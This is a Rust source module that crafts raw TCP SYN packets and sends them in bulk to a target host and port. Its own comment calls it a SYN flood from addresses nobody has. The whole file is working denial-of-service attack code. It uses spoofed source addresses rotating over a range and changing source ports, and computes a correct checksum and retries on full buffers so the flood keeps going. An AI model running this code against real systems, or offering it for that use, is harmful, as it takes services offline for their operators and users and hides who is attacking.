//! Connections that are begun and never gone on with: a flood of SYNs from addresses that nobody
//! has.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::AsRawFd,
};

use anyhow::{Context, Result};
use nix::{
    errno::Errno,
    sys::socket::{
        AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
    },
};

/// Addresses from the first one on that take turns.
const SOURCES: u32 = 50;
const FIRST_PORT: u32 = 1024;

/// Sends `count` of them to `target`, whose addresses of origin begin with `from`.
pub fn flood(target: &str, count: &str, from: &str) -> Result<()> {
    let target: SocketAddrV4 = target.parse().context("HOST:PORT")?;
    let count: u32 = count.parse().context("COUNT is a number")?;
    let from: Ipv4Addr = from.parse().context("FROM is an address")?;
    let raw = socket(
        AddressFamily::Inet,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::Raw,
    )
    .context("a raw socket")?;
    let to = SockaddrIn::from(SocketAddrV4::new(*target.ip(), 0));
    for number in 0..count {
        let source = Ipv4Addr::from_bits(from.to_bits() + number % SOURCES);
        let port = FIRST_PORT + number / SOURCES % (65_536 - FIRST_PORT);
        let packet = syn(SocketAddrV4::new(source, port as u16), target, number);
        while let Err(error) = sendto(raw.as_raw_fd(), &packet, &to, MsgFlags::empty()) {
            if !matches!(error, Errno::ENOBUFS | Errno::EAGAIN | Errno::EINTR) {
                return Err(error).context("sending");
            }
        }
    }
    println!("sent {count}");
    Ok(())
}

/// RFC 791 and RFC 9293; the kernel fills in the length and the checksum of the IP header.
fn syn(from: SocketAddrV4, to: SocketAddrV4, sequence: u32) -> [u8; 40] {
    let mut packet = [0; 40];
    packet[0] = 0x45;
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&from.ip().octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    let tcp = &mut packet[20..];
    tcp[0..2].copy_from_slice(&from.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&64_240_u16.to_be_bytes());
    let words = |bytes: &[u8]| -> u32 {
        let pairs = bytes.chunks_exact(2);
        pairs
            .map(|two| u32::from(u16::from_be_bytes([two[0], two[1]])))
            .sum()
    };
    // The header that only the checksum knows: both addresses, the protocol and the length.
    let mut sum = words(&packet[12..20]) + 6 + 20 + words(&packet[20..]);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let checksum = !(sum as u16);
    packet[36..38].copy_from_slice(&checksum.to_be_bytes());
    packet
}
